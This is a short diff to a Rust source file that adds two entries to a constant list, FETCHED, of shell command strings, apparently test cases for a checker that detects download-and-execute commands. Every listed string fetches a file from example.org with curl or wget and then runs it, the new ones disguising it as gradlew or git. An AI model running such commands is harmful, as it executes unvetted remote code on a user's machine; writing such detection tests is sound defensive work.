@@ -145,6 +145,8 @@ const FETCHED: &[&str] = &[
     "wget -qO /tmp/x.js https://example.org/x && node /tmp/x.js",
     "curl -o x https://example.org/x && chmod +x x && ./x",
     "curl -o x https://example.org/x && chmod +x x && sudo ./x",
+    "curl -o gradlew https://example.org/x && ./gradlew test",
+    "curl -o git https://example.org/x && env ./git status",
     "curl -o a https://example.org/x && mv a b && sh b",
     "curl -o a https://example.org/x && cp a b && source ./b",
     "curl -o a https://example.org/x && cat a | sh",
